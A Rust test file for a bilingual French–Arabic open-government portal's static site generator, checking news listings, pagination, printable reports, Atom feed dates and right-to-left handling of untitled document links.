fn links(html: &str) -> Vec<(String, String)> {
    all_between(html, "<a href=\"", "</a>")
        .into_iter()
        .map(|a| {
            let (href, rest) = a["<a href=\"".len()..].split_once('"').unwrap();
            (href.to_string(), text(&format!("<a{rest}")))
        })
        .collect()
}

/// A news post: its title, date and text in the page's language, and the commitments
/// it names, each linked by its title; listed on the dashboard and the news page.
#[test]
fn a_news_post_links_the_commitments_it_names() {
    let out = built("valid-site", "2025-06-30");
    for (lang, title, date, commitment, summary) in [
        (
            "fr",
            "Lancement de la consultation publique sur les données ouvertes",
            "14 mai 2024",
            "Renforcer la publication et la réutilisation des données ouvertes",
            "Une consultation publique est ouverte pour identifier les données prioritaires.",
        ),
        ("ar", "إطلاق الاستشارة العمومية حول المعطيات المفتوحة", "14 ماي 2024", "تعزيز نشر المعطيات المفتوحة وإعادة استعمالها", ""),
    ] {
        let post = format!("/{lang}/news/2024-05-14-consultation-launch/");
        let html = page(out, &post[1..]);
        let article = between(&html, "<article>", "</article>");
        assert_eq!(text(between(article, "<h1>", "</h1>")), title, "{lang}");
        assert_eq!(
            between(article, "<p class=\"meta\">", "</p>"),
            format!("<p class=\"meta\"><time datetime=\"2024-05-14\">{date}</time></p>")
        );
        let related = between(article, "<h2>", "</ul>");
        assert_eq!(links(related), [(format!("/{lang}/plans/2024-2027/commitments/open-data/"), commitment.to_string())], "{lang}");
        // Listed on the dashboard and on the news page, linked, dated, summed up.
        let html = page(out, lang);
        let news = between(&html, "<ul class=\"news-list\">", "</ul>");
        assert_eq!(links(news), [(post.clone(), title.to_string())], "{lang}");
        assert!(news.contains(&format!("<time datetime=\"2024-05-14\">{date}</time>")), "{lang}");
        let html = page(out, &format!("{lang}/news"));
        let news = between(&html, "<ul class=\"news-list\">", "</ul>");
        assert_eq!(links(news), [(post.clone(), title.to_string())], "{lang}");
        if !summary.is_empty() {
            assert!(news.contains(&format!("<p>{summary}</p>")), "{lang}");
        }
    }
    // The portal's news post names 22 commitments of the 2021-2023 plan, some with the
    // same IDs as sheets of the 2024-2027 plan: each link is to the plan it names.
    let out = built(".", "2026-11-01");
    let html = page(out, "fr/news/2023-03-28-steering-committee");
    let related = links(between(&html, "<h2>Engagements liés</h2>", "</ul>"));
    assert_eq!(related.len(), 22);
    assert!(related.iter().all(|(href, _)| href.starts_with("/fr/plans/2021-2023/commitments/")), "{related:?}");
    assert_eq!(related[0].0, "/fr/plans/2021-2023/commitments/fiscal-transparency/");
}

/// The pager of a list page as a reader sees it: its label, then each link or mark as
/// (text, href, what it is: "prev", "next", "current", "gap" or "").
fn pager_items(html: &str) -> (String, Vec<(String, String, &'static str)>) {
    let nav = between(html, "<nav class=\"pager no-print\"", "</nav>");
    let label = text(between(nav, "<p>", "</p>"));
    let items = all_between(nav, "<li>", "</li>")
        .into_iter()
        .map(|li| {
            let href = if li.contains("href=\"") {
                let h = between(li, "href=\"", "\"");
                h["href=\"".len()..h.len() - 1].to_string()
            } else {
                String::new()
            };
            let kind = if li.contains("rel=\"prev\"") {
                "prev"
            } else if li.contains("rel=\"next\"") {
                "next"
            } else if li.contains("aria-current=\"page\"") {
                "current"
            } else if li.contains("aria-hidden=\"true\"") {
                "gap"
            } else {
                ""
            };
            (text(li), href, kind)
        })
        .collect();
    (label, items)
}

/// A plan of 60 commitments at five rows a page: 12 pages in each order. Each page's
/// title says which page it is after the first; its pager links the previous and next
/// pages, the first and last, and two pages on each side of the current one, with a
/// mark for the pages left out; the order switch names the others.
#[test]
fn a_long_list_is_paged_with_its_neighbours_and_its_ends() {
    let (_dir, out) = built_changed(".", "2026-11-01", |root| {
        let site_yaml = root.join("content/site.yaml");
        let config: String =
            fs::read_to_string(&site_yaml).unwrap().lines().filter(|l| !l.starts_with("page_size:")).map(|l| format!("{l}\n")).collect();
        fs::write(&site_yaml, config + "page_size: 5\n").unwrap();
        let sheets = root.join("content/plans/settat-2024-2025/commitments");
        let model = fs::read_to_string(sheets.join("digital-services.yaml")).unwrap();
        for n in 5..=60 {
            fs::write(sheets.join(format!("copy-{n:03}.yaml")), model.replacen("number: 3\n", &format!("number: {n}\n"), 1)).unwrap();
        }
    });
    let title = |html: &str| text(between(html, "<title>", "</title>"));
    let plan = "Programme d'ouverture de la Commune de Settat 2024-2025";
    let base = "/fr/plans/settat-2024-2025/by-progress/";
    let first = page(&out, &base[1..]);
    assert!(title(&first).starts_with(&format!("{plan} — Portail")), "{}", title(&first));
    let sixth = page(&out, &format!("{}page/6", &base[1..]));
    assert!(title(&sixth).starts_with(&format!("{plan} — page 6 sur 12 — ")), "{}", title(&sixth));
    let link = |n: usize| if n == 1 { base.to_string() } else { format!("{base}page/{n}/") };
    let item = |t: &str, href: String, kind: &'static str| (t.to_string(), href, kind);
    let numbered = |n: usize, current: usize| {
        if n == current { item(&n.to_string(), String::new(), "current") } else { item(&n.to_string(), link(n), "") }
    };
    let gap = || item("…", String::new(), "gap");
    let prev = |n: usize| item("← Page précédente", link(n), "prev");
    let next = |n: usize| item("Page suivante →", link(n), "next");
    assert_eq!(
        pager_items(&sixth),
        (
            "page 6 sur 12".to_string(),
            [prev(5), numbered(1, 6), gap()]
                .into_iter()
                .chain((4..=8).map(|n| numbered(n, 6)))
                .chain([gap(), numbered(12, 6), next(7)])
                .collect()
        )
    );
    assert_eq!(
        pager_items(&first),
        ("page 1 sur 12".to_string(), (1..=3).map(|n| numbered(n, 1)).chain([gap(), numbered(12, 1), next(2)]).collect())
    );
    let last = page(&out, &format!("{}page/12", &base[1..]));
    assert_eq!(
        pager_items(&last),
        ("page 12 sur 12".to_string(), [prev(11), numbered(1, 12), gap()].into_iter().chain((10..=12).map(|n| numbered(n, 12))).collect())
    );
    // The order switch: the current order unlinked, the others' first pages linked.
    let switch = between(&sixth, "class=\"sort-orders", "</nav>");
    assert_eq!(
        links(switch),
        [
            ("/fr/plans/settat-2024-2025/".to_string(), "numéro".to_string()),
            ("/fr/plans/settat-2024-2025/by-status/".to_string(), "statut".to_string())
        ]
    );
    assert!(switch.contains("<span aria-current=\"true\">avancement</span>"), "{switch}");
    // A list on one page has no pager and no page number in its title.
    let out = built("feeds-site", "2025-06-15");
    let html = page(out, "ar/plans/2024-2027");
    assert!(!html.contains("class=\"pager"), "one page");
    assert!(!title(&html).contains("الصفحة"), "{}", title(&html));
}

/// The open-data page opens with the site's own page `open-data` when it has one, in
/// the page's language and under its title; without one, the page is titled by the
/// theme and has no introduction.
#[test]
fn the_open_data_page_opens_with_the_sites_own_introduction() {
    let out = built(".", "2026-11-01");
    for (lang, intro) in
        [("fr", "L'ensemble des informations présentées sur ce portail"), ("ar", "تُنشر جميع المعطيات المعروضة في هذه البوابة")]
    {
        let html = page(out, &format!("{lang}/open-data"));
        let main = between(&html, "<main", "</main>");
        let first = text(between(main, "<div class=\"prose\"><p>", "</p>"));
        assert!(first.starts_with(intro), "{lang}: {first}");
        let source = fs::read_to_string(manifest().join(format!("content/pages/open-data.{lang}.md"))).unwrap();
        let title = between(&source, "title: \"", "\"");
        assert_eq!(text(between(main, "<h1>", "</h1>")), title["title: \"".len()..title.len() - 1], "{lang}");
    }
    let out = built("valid-site", "2025-06-30");
    for (lang, title) in [("fr", "Données ouvertes"), ("ar", "المعطيات المفتوحة")] {
        let html = page(out, &format!("{lang}/open-data"));
        let main = between(&html, "<main", "</main>");
        assert_eq!(text(between(main, "<h1>", "</h1>")), title, "{lang}");
        assert!(!main.contains("<div class=\"prose\">"), "{lang}: no introduction");
    }
}

/// News posts sharing a day or a name are each listed with their own title and date,
/// newest first, a post written in Arabic only marked as such on the French list; the
/// dashboard shows the three newest.
#[test]
fn news_posts_sharing_a_day_or_a_name_are_each_listed_once() {
    let out = built("search-site", "2025-06-15");
    let posts = |html: &str, list: &str| -> Vec<(String, String)> {
        let list = between(html, list, "</ul>");
        all_between(list, "<a href=\"", "</time>")
            .into_iter()
            .map(|item| {
                let (href, _) = item["<a href=\"".len()..].split_once('"').unwrap();
                let date = between(item, "<time datetime=\"", "\"");
                (href.rsplit('/').nth(1).unwrap().to_string(), date["<time datetime=\"".len()..date.len() - 1].to_string())
            })
            .collect()
    };
    let expected = [
        ("2025-05-02-arabic-only", "2025-05-02"),
        ("2025-05-02-second-post", "2025-05-02"),
        ("2025-01-10-launch", "2025-01-10"),
        ("2024-11-20-launch", "2024-11-20"),
    ]
    .map(|(a, b)| (a.to_string(), b.to_string()));
    for lang in ["fr", "ar"] {
        let html = page(out, &format!("{lang}/news"));
        assert_eq!(posts(&html, "<ul class=\"news-list\">"), expected, "{lang}");
        let titles: Vec<String> = all_between(&html, "<h2><a href=\"", "</a></h2>").into_iter().map(text).collect();
        let expected_titles: &[&str] = if lang == "fr" {
            &["خبر بالعربية فقط (pas encore traduit)", "Seconde nouvelle du même jour", "Lancement du portail", "Annonce du lancement"]
        } else {
            &["خبر بالعربية فقط", "خبر ثان في اليوم نفسه", "إطلاق البوابة", "إعلان الإطلاق"]
        };
        assert_eq!(titles, expected_titles, "{lang}");
        let html = page(out, lang);
        assert_eq!(posts(&html, "<ul class=\"news-list\">"), expected[..3], "{lang}: the dashboard");
    }
}

/// Each printable report is the report of its own institution or plan, under its name
/// in the page's title and heading.
#[test]
fn each_printable_report_is_titled_after_its_own_institution_or_plan() {
    let out = built("feeds-site", "2025-06-15");
    for (lang, institution_report, plan_report, names) in [
        (
            "fr",
            "Rapport de redevabilité",
            "Rapport d'auto-évaluation",
            [
                ("city-council", "Commune de la ville"),
                ("digital-ministry", "Ministère de la Transition numérique"),
                ("watchdog", "Observatoire de la société civile"),
            ],
        ),
        ("ar", "تقرير المساءلة", "", [("city-council", ""), ("digital-ministry", ""), ("watchdog", "مرصد المجتمع المدني")]),
    ] {
        let title = |html: &str| text(between(html, "<title>", "</title>"));
        let heading = |html: &str| text(between(html, "<h1>", "</h1>"));
        for (id, name) in names {
            let html = page(out, &format!("{lang}/institutions/{id}/report"));
            // The institution's own page gives its name in this language.
            let own = page(out, &format!("{lang}/institutions/{id}"));
            let own_name = heading(&own);
            if !name.is_empty() {
                assert_eq!(own_name, name, "{lang}");
            }
            assert_eq!(heading(&html), format!("{institution_report} — {own_name}"), "{lang}: {id}");
            assert!(title(&html).starts_with(&format!("{institution_report} — {own_name} — ")), "{lang}: {id}");
        }
        let html = page(out, &format!("{lang}/plans/2024-2027/report"));
        let plan_name = heading(&page(out, &format!("{lang}/plans/2024-2027")));
        if !plan_report.is_empty() {
            assert_eq!(heading(&html), format!("{plan_report} — {plan_name}"), "{lang}");
        }
        assert!(heading(&html).ends_with(&format!(" — {plan_name}")), "{lang}");
    }
}

/// The heads of the reports a page lists (`<p class="report-head">`), as text.
fn report_heads(html: &str) -> Vec<String> {
    all_between(html, "<p class=\"report-head\">", "</p>").into_iter().map(text).collect()
}

/// The latest reports, newest first, each dated with its figure and what it covers; an
/// institution's printable report lists the reports it filed.
#[test]
fn the_updates_page_and_an_institutions_report_list_the_reports_filed() {
    let out = built("feeds-site", "2025-06-15");
    for (lang, heads) in [
        (
            "fr",
            [
                "15 janvier 2025 · 40\u{202f}% · Activité 2 : Lancer le portail",
                "1er septembre 2024 · 20\u{202f}% · Activité 2 : Lancer le portail",
            ],
        ),
        ("ar", ["15 يناير 2025 · 40\u{202f}% · النشاط 2: إطلاق البوابة", "1 شتنبر 2024 · 20\u{202f}% · النشاط 2: إطلاق البوابة"]),
    ] {
        assert_eq!(report_heads(&page(out, &format!("{lang}/updates"))), heads, "{lang}");
        // The city council filed the January report, the ministry the September one.
        assert_eq!(report_heads(&page(out, &format!("{lang}/institutions/city-council/report"))), heads[..1], "{lang}");
        assert_eq!(report_heads(&page(out, &format!("{lang}/institutions/digital-ministry/report"))), heads[1..], "{lang}");
        assert_eq!(report_heads(&page(out, &format!("{lang}/institutions/watchdog/report"))), Vec::<String>::new(), "{lang}");
    }
}

/// The entries of an Atom feed as (id's fragment, updated).
fn feed_entries(out: &Path, path: &str) -> Vec<(String, String)> {
    let xml = fs::read_to_string(out.join(path)).unwrap_or_else(|e| panic!("{path}: {e}"));
    all_between(&xml, "<entry", "</entry>")
        .into_iter()
        .map(|entry| {
            let id = text(between(entry, "<id>", "</id>"));
            let updated = text(between(entry, "<updated>", "</updated>"));
            (id.rsplit('#').next().unwrap().to_string(), updated)
        })
        .collect()
}

/// A commitment's feed dates each report by its own date, whatever its precision: a
/// day as it is, a month from its first day, a year from the 1st of January.
#[test]
fn feed_entries_are_dated_by_their_reports_whatever_the_precision() {
    let out = built("feeds-site", "2025-06-15");
    for lang in ["fr", "ar"] {
        let entries = feed_entries(out, &format!("{lang}/plans/2024-2027/commitments/open-data/atom.xml"));
        assert!(entries.contains(&("report-activity-2-2".to_string(), "2025-01-15T00:00:00Z".to_string())), "{lang}: {entries:?}");
        assert!(entries.contains(&("report-activity-2-1".to_string(), "2024-09-01T00:00:00Z".to_string())), "{lang}: {entries:?}");
    }
    let (_dir, out) = built_changed("feeds-site", "2025-06-15", |root| {
        let file = root.join("content/plans/2024-2027/commitments/citizen-petitions.yaml");
        let sheet = fs::read_to_string(&file).unwrap();
        let sheet = sheet.replacen("    end: 2025-02\n", "    end: 2025-02\n    updates:\n      - {date: 2025-03, progress: 10}\n", 1);
        fs::write(&file, format!("{sheet}updates:\n  - {{date: 2024, progress: 5}}\n")).unwrap();
    });
    for lang in ["fr", "ar"] {
        let entries = feed_entries(&out, &format!("{lang}/plans/2024-2027/commitments/citizen-petitions/atom.xml"));
        assert_eq!(
            entries,
            [
                ("report-activity-1-1".to_string(), "2025-03-01T00:00:00Z".to_string()),
                ("report-commitment-1".to_string(), "2024-01-01T00:00:00Z".to_string())
            ],
            "{lang}"
        );
    }
}

/// A document filed without a title is shown by its address, isolated as left-to-right
/// text in both languages (in an Arabic page the bidirectional algorithm would move
/// its slashes and dots); a titled document shows its title as it is.
#[test]
fn an_untitled_document_shows_its_address_isolated_left_to_right() {
    let (_dir, out) = built_changed("feeds-site", "2026-11-01", |root| {
        let sheet = root.join("content/plans/2024-2027/commitments/open-data.yaml");
        let text = fs::read_to_string(&sheet).unwrap();
        let titled = "          - title: {ar: \"محضر\", fr: \"Procès-verbal\"}\n";
        assert!(text.contains(titled));
        fs::write(&sheet, text.replace(titled, &format!("{titled}          - url: \"https://example.org/minutes/\"\n"))).unwrap();
    });
    for (lang, title) in [("ar", "بلاغ"), ("fr", "Communiqué")] {
        let html = page(&out, &format!("{lang}/plans/2024-2027/commitments/open-data"));
        let list = between(&html, r#"<ul class="evidence">"#, "</ul>");
        assert!(list.contains(&format!(r#"<a href="https://example.org/beta">{title}</a>"#)), "{lang}: {list}");
        assert!(
            list.contains(r#"<a href="https://example.org/minutes/"><bdi dir="ltr">https://example.org/minutes/</bdi></a>"#),
            "{lang}: {list}"
        );
    }
}

/// The sections of an institution's printable report, in the order of the page: each
/// plan's address with the addresses of the commitments under it.
fn report_sections(html: &str) -> Vec<(String, Vec<String>)> {
    let href = |html: &str| links(html).first().map(|(href, _)| href.clone()).unwrap_or_else(|| panic!("no link in {html}"));
    let commitments = between(html, "id=\"report-commitments-h\"", "id=\"report-filed-h\"");
    commitments
        .split("<section class=\"report-plan\"")
        .skip(1)
        .map(|section| {
            let plan = href(between(section, "<h3", "</h3>"));
            (plan, all_between(section, "<h4", "</h4>").into_iter().map(href).collect())
        })
        .collect()
}

/// An institution's printable report gives each plan its own section, once, holding
/// every commitment of that plan the institution leads or is a partner in and none of
/// another plan's: the DGCT leads or supports commitments of three plans.
#[test]
fn an_institutions_report_groups_its_commitments_by_plan() {
    let out = built(".", "2026-11-01");
    for lang in ["fr", "ar"] {
        let plan = |id: &str, commitments: &[&str]| {
            (format!("/{lang}/plans/{id}/"), commitments.iter().map(|c| format!("/{lang}/plans/{id}/commitments/{c}/")).collect::<Vec<_>>())
        };
        let sections = report_sections(&page(out, &format!("{lang}/institutions/dgct/report")));
        assert_eq!(
            sections,
            [
                plan("2024-2027", &["open-local-governments-programme"]),
                plan("settat-2024-2025", &["participatory-budget", "equality-body", "digital-services", "permanent-dialogue"]),
                plan("2021-2023", &["local-access-to-information", "local-participation-toolkit"]),
            ],
            "{lang}"
        );
        // The commitments of the institution's page, led or as a partner, each once.
        let own = page(out, &format!("{lang}/institutions/dgct"));
        let mut listed_there = [listed(&own, "led"), listed(&own, "partner")].concat();
        let mut reported: Vec<String> =
            sections.iter().flat_map(|(_, cs)| cs.iter().map(|c| c.rsplit('/').nth(1).unwrap().to_string())).collect();
        listed_there.sort();
        reported.sort();
        assert_eq!(reported, listed_there, "{lang}");
    }
}
